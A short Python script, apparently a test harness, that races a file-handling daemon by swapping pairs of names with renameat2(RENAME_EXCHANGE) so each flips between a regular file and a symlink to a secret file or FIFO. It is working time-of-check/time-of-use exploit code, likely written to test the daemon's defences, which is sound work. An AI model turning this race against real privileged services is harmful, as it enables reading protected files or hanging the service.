"""Attacker for the hand-off race: swaps pairs of names with renameat2(RENAME_EXCHANGE)
in a loop, so each name flips between a regular file and a symlink (to a secret file
or a FIFO) while the daemon takes it over.

usage: swapper.py SECONDS A1 B1 A2 B2 ...   (prints the number of exchanges done)
"""
import ctypes
import os
import sys
import time

AT_FDCWD = -100
RENAME_EXCHANGE = 2

libc = ctypes.CDLL(None, use_errno=True)
renameat2 = libc.renameat2
renameat2.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_int, ctypes.c_char_p, ctypes.c_uint]


def main():
    seconds = float(sys.argv[1])
    names = [os.fsencode(a) for a in sys.argv[2:]]
    pairs = list(zip(names[0::2], names[1::2]))
    live = set(range(len(pairs)))
    deadline = time.monotonic() + seconds
    swaps = 0
    while live and time.monotonic() < deadline:
        for i in list(live):
            a, b = pairs[i]
            if renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0:
                swaps += 1
            elif ctypes.get_errno() == 2:  # ENOENT: the daemon took one of them
                live.discard(i)
    print(swaps)


main()
